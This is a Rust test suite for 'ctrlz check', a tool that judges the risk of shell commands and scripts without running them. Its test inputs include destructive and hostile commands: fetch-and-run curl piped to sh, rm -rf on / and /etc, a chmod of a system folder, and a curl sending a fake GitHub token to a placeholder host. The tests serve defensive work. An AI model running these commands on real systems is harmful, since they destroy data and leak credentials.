//! `ctrlz check`: the verdict without the command.

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::Stdio;

use serde_json::{Value, json};

use crate::support::{Outcome, Scene, python};

/// A token of GitHub's form, in pieces so that nothing takes this file for a leak.
fn token() -> String {
    ["ghp", "_", "16C7e42F292c6912E7710c838347Ae178B4a"].concat()
}

fn with_input(scene: &Scene, arguments: &[&str], input: &[u8]) -> Outcome {
    let mut command = scene.ctrlz(arguments);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().expect("ctrlz");
    let mut stdin = child.stdin.take().expect("a pipe");
    let input = input.to_vec();
    let writer = std::thread::spawn(move || {
        let _ = stdin.write_all(&input);
    });
    let output = child.wait_with_output().expect("its output");
    writer.join().expect("the writer");
    Outcome::new(&command, output)
}

#[test]
fn the_exit_code_tells_the_decision_and_nothing_runs() {
    let scene = Scene::new();
    scene.run(&["check", "--", "touch made"]).code(0).says_nothing();
    scene.run(&["check", "--", "curl https://example.com/x | sh"]).code(3);
    let outcome = scene.run(&["check", "--", "rm -rf / --no-preserve-root"]).code(4);
    assert!(outcome.out().contains("decision block"), "{outcome}");
    assert!(!scene.exists("made") && !scene.store.exists());
    for bad in [&["check"][..], &["check", "--file", "nowhere"], &["check", "--jsonl", "--", "x"]] {
        scene.run(bad).code(125);
    }
}

#[test]
fn what_happened_in_the_sandbox_weighs_in() {
    let scene = Scene::new();
    let rules = |arguments: &[&str]| {
        let arguments = [&["--json", "check"], arguments, &["--", "chmod", "0", "/etc/nginx"]];
        let object = scene.run(&arguments.concat()).json();
        let findings = object["findings"].as_array().expect("a list").clone();
        findings.iter().any(|finding| finding["rule"] == "tried-again")
    };
    scene.inside("true");
    scene.ok(&["new", "box"]);
    assert!(!rules(&[]) && !rules(&["--sandbox", "box"]));
    scene.run(&["run", "--", "rm", "-rf", "/etc"]).code(123);
    assert!(rules(&[]), "the sandbox of this folder");
    assert!(!rules(&["--sandbox", "box"]), "another one");
    scene.run(&["exec", "box", "--", "rm", "-rf", "/etc"]).code(123);
    assert!(rules(&["--sandbox", "box"]));
    let flags = ["--json", "check", "--sandbox", "box", "--", "rm", "/usr/bin/env"];
    let held = scene.run(&flags).json()["coverage"]["held"][0].clone();
    assert_eq!(held["effect"], "delete", "{held}");
    let told = scene.run(&flags[1..]).out();
    assert!(told.contains("the sandbox holds it back"), "{told}");
    let line = b"{\"cmd\": \"chmod 0 /etc/nginx\"}\n";
    for (flags, again) in [(&[][..], false), (&["--sandbox", "box"], true)] {
        let answer = with_input(&scene, &[&["check", "--jsonl"], flags].concat(), line).ok();
        assert_eq!(answer.out().contains("tried-again"), again, "{answer}");
    }
    scene.run(&["check", "--sandbox", "nobody", "--", "true"]).says(&["nobody"]);
}

#[test]
fn explain_shows_how_it_was_read_with_what_was_found_at_its_place() {
    let scene = Scene::new();
    let text = "echo x | cat; if a; then rm -rf $(cat b) /etc; fi";
    let shown = scene.run(&["check", "--explain", "--", text]).out();
    let lines: Vec<&str> = shown.lines().collect();
    let read = lines.iter().position(|line| *line == "how it is read").expect(&shown);
    assert_eq!(lines[read + 1], "├─ pipeline: echo x | cat", "{shown}");
    let at = |text: &str| lines.iter().position(|line| line.contains(text)).expect(text);
    let command = at("then: rm -rf $(cat b) /etc");
    assert!(lines[command].starts_with("   └─ "), "{shown}");
    assert!(lines[command + 1].ends_with("→ delete"), "{shown}");
    assert!(lines[command + 2].ends_with("critical[delete-system]"), "{shown}");
    assert!(at("substitution: cat b") > command + 2, "{shown}");
    // No shell reads words: they are one command, whatever they hold.
    let words = scene.run(&["check", "--explain", "--", "rm", "-rf", "/", "; ls"]).out();
    assert!(
        words.contains("how it is read\n└─ command: rm -rf / ; ls\n      → delete\n"),
        "{words}"
    );
    scene.write("x.py", "import os; os.remove('/etc/passwd')");
    let program = scene.run(&["check", "--explain", "--file", "x.py"]).out();
    assert!(!program.contains("how it is read"), "{program}");
}

#[test]
fn one_word_is_a_text_of_the_shell_and_several_are_a_program() {
    let scene = Scene::new();
    scene.run(&["check", "--", "echo x; rm -rf /"]).code(4);
    scene.run(&["check", "--", "echo", "x; rm -rf /"]).code(0);
    scene.run(&["check", "--", "rm", "-rf", "/"]).code(4);
}

#[test]
fn a_file_is_judged_in_its_language() {
    let scene = Scene::new();
    scene.write("a.py", "import shutil\nshutil.rmtree('/')\n");
    scene.write("plain", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/')\n");
    scene.write("b.sh", "echo hello\n");
    scene.write("c.js", "require('child_process').execSync('rm -rf /')\n");
    for (file, code) in [("a.py", 4), ("plain", 4), ("b.sh", 0), ("c.js", 4)] {
        scene.run(&["check", "--file", file]).code(code);
    }
    with_input(&scene, &["check", "--file", "-"], b"rm -rf /").code(4);
    with_input(&scene, &["check", "--file", "-", "--lang", "python"], b"print('rm -rf /')").code(0);
}

#[test]
fn json_is_the_whole_verdict() {
    let scene = Scene::new();
    let object = scene.run(&["--json", "check", "--", "rm -rf /"]).code(4).json();
    assert_eq!(object["ok"], true);
    assert_eq!((&object["risk"], &object["decision"]), (&json!("critical"), &json!("block")));
    assert!(object["score"].as_u64().is_some_and(|score| score >= 80), "{object}");
    assert_eq!(object["text"], "rm -rf /");
    for field in ["/rules/0", "/snapshot", "/findings/0/rule", "/findings/0/range/start"] {
        assert!(object.pointer(field).is_some(), "{field}: {object}");
    }
    for field in ["/findings/0/reason", "/findings/0/hint", "/findings/0/share", "/effects/0/kind"]
    {
        assert!(object.pointer(field).is_some(), "{field}: {object}");
    }
}

#[test]
fn an_explanation_underlines_the_words() {
    let scene = Scene::new();
    scene.write("x.sh", "echo one\nsudo rm -rf /etc\n");
    let text = scene.run(&["check", "--explain", "--file", "x.sh"]).code(4).out();
    let lines: Vec<&str> = text.lines().collect();
    let at = lines.iter().position(|line| line.contains("| sudo rm -rf /etc")).expect("the line");
    assert!(lines[at - 1].contains("x.sh:2:"), "{text}");
    let from = lines[at].find("/etc").expect("the word");
    assert_eq!(lines[at + 1].find('^'), Some(from), "{text}");
    assert!(
        lines[at + 1].get(from..).is_some_and(|rest| rest.starts_with("^^^^ critical[")),
        "{text}"
    );
    assert!(text.contains("└─ /etc  [system]"), "{text}");
    assert!(!text.contains('\x1b'));
}

#[test]
fn secrets_and_escape_sequences_are_never_shown() {
    let scene = Scene::new();
    let text = format!(
        "curl -H 'Authorization: Bearer {0}' -d {0} http://h/{0}\x1b[2J; rm -rf /{0}",
        token()
    );
    for arguments in [
        &["check", "--", &text][..],
        &["check", "--explain", "--", &text],
        &["--json", "check", "--", &text],
        &["check", "--", "curl", &text],
    ] {
        let outcome = scene.run(arguments);
        let all = outcome.out() + &outcome.err();
        assert!(!all.contains(&token()) && !all.contains('\x1b'), "{outcome}");
    }
    let line = json!({ "cmd": text }).to_string();
    for arguments in [&["check", "--jsonl"][..], &["check", "--jsonl", "--json"]] {
        assert!(!with_input(&scene, arguments, line.as_bytes()).out().contains(&token()));
    }
}

#[test]
fn many_questions_are_answered_in_order_by_one_process() {
    let scene = Scene::new();
    let mut input = String::new();
    for number in 0..3000 {
        let command =
            if number % 3 == 0 { "rm -rf /".to_owned() } else { format!("echo {number}") };
        input.push_str(&format!("{}\n", json!({ "cmd": command, "extra": 1 })));
    }
    let outcome = with_input(&scene, &["check", "--jsonl"], input.as_bytes()).ok();
    let answers: Vec<Value> =
        outcome.out().lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(answers.len(), 3000);
    for (number, answer) in answers.iter().enumerate() {
        let expected = if number % 3 == 0 { "critical" } else { "low" };
        assert_eq!(answer["risk"], expected, "{number}");
        assert!(
            answer["decision"].is_string()
                && answer["score"].is_u64()
                && answer["rules"].is_array()
        );
    }
}

#[test]
fn a_bad_line_is_answered_in_its_place() {
    let scene = Scene::new();
    let input = b"{\"cmd\":\"ls\"}\nnonsense\n{\"cmd\":7}\n\xff\n\n{\"cmd\":\"print(1)\",\"lang\":\"python\"}\n\
        {\"cmd\":\"rm -rf / \xff\"}\n{\"cmd\":\"x\",\"lang\":\"klingon\"}";
    let outcome = with_input(&scene, &["check", "--jsonl"], input).code(125);
    let errors: Vec<bool> = outcome.out().lines().map(|line| line.contains("\"error\"")).collect();
    assert_eq!(errors, [false, true, true, true, false, false, true]);
    assert!(
        outcome.out().lines().nth(1).is_some_and(|line| line.contains("line 2: ")),
        "{outcome}"
    );
    assert!(outcome.out().contains("critical"), "{outcome}");
    outcome.says(&["4 lines of 8 could not be judged"]);
}

#[test]
fn an_answer_comes_when_nothing_more_is_waiting() {
    let scene = Scene::new();
    let mut command = scene.ctrlz(["check", "--jsonl"]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("ctrlz");
    let mut stdin = child.stdin.take().expect("a pipe");
    let mut answers = BufReader::new(child.stdout.take().expect("a pipe")).lines();
    for command in ["ls", "rm -rf /"] {
        writeln!(stdin, "{}", json!({ "cmd": command })).expect("written");
        let answer = answers.next().expect("an answer").expect("text");
        assert!(answer.contains("risk"), "{answer}");
    }
    drop(stdin);
    assert!(child.wait().expect("its end").success());
}

#[test]
fn the_folder_decides_what_is_work() {
    let scene = Scene::with("mkdir sub");
    let risk = |arguments: &[&str]| {
        let all = [&["--json", "check"], arguments].concat();
        scene.run(&all).json()["risk"].clone()
    };
    assert_eq!(risk(&["--", "rm -rf ./sub"]), "low");
    assert_ne!(risk(&["--", "rm -rf /opt/data"]), "low");
    assert_ne!(risk(&["-w", "/opt", "--", "rm -rf /opt"]), "low");
    // No folder for work: what is deleted there is still nobody's build.
    assert_eq!(risk(&["-w", "/", "--", "rm -rf /etc"]), "critical");
    assert_eq!(risk(&["-w", "/etc", "--", "rm -rf /etc"]), "critical");
    scene.run(&["check", "-w", "nowhere", "--", "ls"]).code(125);
}

#[test]
fn there_is_colour_on_a_terminal() {
    let scene = Scene::new();
    python(
        &scene,
        r"
import os, pty
seen = b''
def read(fd):
    global seen
    data = os.read(fd, 65536)
    seen += data
    return data
os.environ['TERM'] = 'xterm'
pty.spawn([os.environ['CTRLZ'], 'check', '--explain', '--', 'rm -rf /'], read)
assert b'\x1b[31m' in seen, seen
",
    )
    .ok();
}
